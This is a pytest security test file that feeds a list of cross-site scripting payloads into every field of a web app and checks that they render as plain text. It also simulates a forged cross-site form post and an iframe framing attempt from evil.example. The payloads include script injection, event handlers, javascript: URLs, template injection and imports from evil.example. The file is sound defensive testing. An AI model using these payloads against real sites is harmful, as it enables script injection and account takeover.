"""Text of others stays text: hostile strings in every field that a page shows."""

from __future__ import annotations

import json
from typing import Any

import pytest

pytestmark = pytest.mark.services

TAGS = [
    "img src=x onerror={}",
    "svg onload={}",
    "body onload={}",
    "iframe src=javascript:{}",
    "details open ontoggle={}",
]
CALLS = ["alert(1)", "alert`1`", "window.hacked=1", "top['al'+'ert'](1)", "import('//evil.example/x.js')"]
FRAMES = ["<{}>", "\"'><{}>"]
HOSTILE = [frame.format(tag.format(call)) for frame in FRAMES for tag in TAGS for call in CALLS] + [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>window.hacked=1</script>",
    "javascript:alert(1)",
    "{{ constructor.constructor('alert(1)')() }}",
    "${alert(1)}",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<div hx-get='/new' hx-trigger='load' hx-on:load='alert(1)'></div>",
    "<form action='//evil.example/'><button>x</button></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
]


def document(name: str, **changes: Any) -> dict[str, Any]:
    return {
        "name": name,
        "baseline": {"w": "plain"},
        "candidates": [{"w": "plain"}, {"w": "other"}],
        "metrics": {"watch": {"event": "watch", "per_unit": "count", "cap": 20}},
        "goal": {"maximize": "watch"},
        "rounds": {"every": "1h"},
        **changes,
    }


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) >= 50


def test_hostile_text_in_every_field_stays_text(site: Any, visit: Any) -> None:
    desk = visit("desk")
    client = site.client
    for number, text in enumerate(HOSTILE):
        made = client.post("/v1/studies", json=document(f"s{number}", description=text))
        assert made.status_code in (201, 422)
    rows = [{"w": "plain"}]
    for text in HOSTILE:
        tried = document("tried", candidates=[*rows, {"w": text}])
        if client.post("/v1/studies", json={**tried, "name": f"t{len(rows)}"}).status_code == 201:
            rows.append({"w": text})
    client.post("/v1/studies", json=document("hostile", candidates=rows)).raise_for_status()
    client.patch("/v1/studies/hostile", json={"action": "start", "reason": HOSTILE[0]}).raise_for_status()
    for place, text in enumerate(HOSTILE):
        action = "resume" if place % 2 else "pause"
        client.patch("/v1/studies/hostile", json={"action": action, "reason": text}).raise_for_status()
    desk.go("/")
    desk.shoot("13-hostile-list")
    calm(desk)
    desk.go("/studies/hostile")
    desk.settled()
    desk.page.get_by_text(HOSTILE[0]).first.wait_for()
    desk.shoot("14-hostile")
    calm(desk)
    # What is wrong with a file is told with the field's own name.
    desk.go("/new")
    wrong = document("wrong", **dict.fromkeys(HOSTILE, 1), metrics={text: {"event": text} for text in HOSTILE})
    desk.page.get_by_label("Study file").fill(json.dumps(wrong))
    desk.page.get_by_role("button", name="Create the study").click()
    desk.page.get_by_text("things to mend").wait_for()
    calm(desk)
    for path in ("/studies/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/login?next=javascript:alert(1)"):
        desk.go(path)
        calm(desk)


def calm(watched: Any) -> None:
    watched.check()
    assert watched.page.evaluate("window.hacked") is None
    assert (
        watched.page.evaluate("document.querySelectorAll('main img, main iframe, main script, main base').length") == 0
    )


def test_a_page_elsewhere_can_change_nothing(site: Any, visit: Any) -> None:
    client = site.client
    client.post("/v1/studies", json=document("feed")).raise_for_status()
    desk = visit("desk")
    desk.go("/studies/feed")
    evil = f"""<form method=post action="{site.url}/studies/feed/change"><input name=action value=archive>
        <input name=reason value=x><input name=token value={"0" * 64}></form>"""
    desk.page.context.route("http://evil.example/", lambda route: route.fulfill(body=evil, content_type="text/html"))
    desk.page.goto("http://evil.example/")
    desk.page.evaluate("document.forms[0].submit()")
    desk.page.get_by_role("heading", name="Not allowed").wait_for()
    assert client.get("/v1/studies/feed").json()["state"] == "draft"
    framed = f"<iframe src='{site.url}/studies/feed'></iframe>"
    desk.page.context.unroute("http://evil.example/")
    desk.page.context.route("http://evil.example/", lambda route: route.fulfill(body=framed, content_type="text/html"))
    desk.page.goto("http://evil.example/")
    assert desk.page.frames[1].url.startswith("chrome-error:")
